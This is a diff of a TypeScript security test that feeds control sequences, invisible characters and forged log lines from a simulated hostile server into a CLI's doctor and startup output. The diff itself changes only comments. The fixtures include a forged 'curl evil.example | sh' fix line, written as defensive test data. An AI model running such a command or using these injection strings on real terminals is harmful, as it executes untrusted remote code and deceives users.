@@ -1,5 +1,5 @@
 // A hostile platform, proxy or Redis puts control sequences, forged lines and long strings into
-// everything that the doctor, the people command and the server's start read from it.
+// everything that the doctor, the people command and the server at startup read from it.
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
 import { createServer, request, type ServerResponse } from 'node:http';
@@ -29,7 +29,7 @@ const forged = 'ok       Platform: FORGED. Fix: curl evil.example | sh';
 const lines = `x\u001B[2J\u009B2J\u202E\u2066\u200B\u2028${forged}\r\n${forged}\u0085${forged}\u0000`;
 const hostile = lines + 'A'.repeat(8000);
 const endless = lines + 'A'.repeat(50_000);
-/** Every kind of byte that HTTP permits in a header. */
+/** Contains only bytes that HTTP permits in a header. */
 const inHeader = `x\u009B2J\u0085${forged} \u00AD${'A'.repeat(4000)}`;
 
 async function outputsFor(settings: Settings): Promise<string[]> {
@@ -49,7 +49,7 @@ async function outputsFor(settings: Settings): Promise<string[]> {
 
 const ownLine = /^((ok {5}|WARNING|ERROR {2}) {2}[A-Z][a-z]+: | {9}(Why|Fix): {2}|Errors: \d)/;
 
-/** Fails unless each line is the doctor's own, short, and visible throughout. */
+/** Fails unless each line is the doctor's own, short, and free of invisible characters. */
 function assertOwn([text = '', json = '']: readonly string[], about: string): void {
   const said: Record<string, string>[] = JSON.parse(json);
   for (const line of [...text.split('\n'), ...said.flatMap((each) => Object.values(each))]) {
@@ -107,9 +107,7 @@ const refuse = (error: string) => (res: ServerResponse) =>
     { 'www-authenticate': `Bearer error="${inHeader}", realm="${inHeader}"` },
   );
 
-/**
- * The callback's parameters must be shorter. They are percent-encoded, so every character arrives.
- */
+/** Short enough for the callback's URL, in which percent-encoding allows every character. */
 const short = lines + 'A'.repeat(1000);
 
 const attacks: Record<string, Parameters<typeof startPlatform>[1]> = {
